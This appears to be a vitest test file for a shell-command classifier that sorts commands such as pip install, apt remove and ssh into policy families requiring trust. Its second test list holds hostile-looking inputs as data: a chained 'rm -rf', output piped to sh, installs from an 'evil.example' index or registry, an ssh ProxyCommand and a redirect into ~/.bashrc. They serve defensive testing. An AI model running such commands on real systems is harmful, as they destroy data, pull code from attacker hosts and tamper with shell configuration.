import { describe, expect, it } from "vitest";
import { readShell } from "../shell/parse/shell.ts";
import { familyOfLine, policyOfFamily } from "./families.ts";

const familyOf = (command: string): string | undefined =>
  familyOfLine(readShell(command, { cwd: "/home/dev/project", home: "/home/dev" }));

describe("a family of commands", () => {
  it.each([
    ["pip install requests", "pip-install"],
    ["pip3 install -U requests flask", "pip-install"],
    ["cd api && pip install -e '.[dev]'", "pip-install"],
    ["uv pip install requests", "uv-install"],
    ["npm ci", "npm-install"],
    ["sudo apt-get remove -y nodejs", "apt-remove"],
    ["brew uninstall jq", "brew-remove"],
    ["pip install git+https://example.com/x", "pip-install-url"],
    ["systemctl restart nginx", "systemctl"],
    ["chmod -R 755 .", "chmod"],
    ["ssh root@Web.example.com 'cd /opt && docker compose restart api' 2>&1 | tail", "ssh-web.example.com"],
    ["ssh -i ~/.ssh/k web reboot", "ssh-web"],
  ])("%s is %s", (command, family) => {
    expect(familyOf(command)).toBe(family);
    expect(policyOfFamily(family)).toBe("require-trust");
  });

  it.each([
    "pip install requests && rm -rf src",
    "pip install requests; systemctl restart nginx",
    "pip install requests | sh",
    "PIP_INDEX_URL=https://evil.example pip install requests",
    "pip install --index-url https://evil.example requests",
    "pip install -i https://evil.example requests",
    "npm install --registry=https://evil.example x",
    "pip install $PACKAGE",
    "pip install x > ~/.bashrc",
    "docker run x pip install y",
    "bash -c 'pip install x'",
    "python -c 'import os' && pip install x",
    "ssh -o ProxyCommand=evil web reboot",
    "ssh web reboot; ssh other reboot",
    "ssh $HOST reboot",
    "pip download x",
    "make install",
  ])("%s has none", (command) => expect(familyOf(command)).toBeUndefined());

  it("has a name that is known", () => {
    expect(policyOfFamily("git-push-protected")).toBe("no-publish");
    for (const name of ["rm-install", "mr3x91a2", "pip", "ssh-", "constructor", "__proto__", "pip-install x"])
      expect(policyOfFamily(name)).toBeUndefined();
  });
});
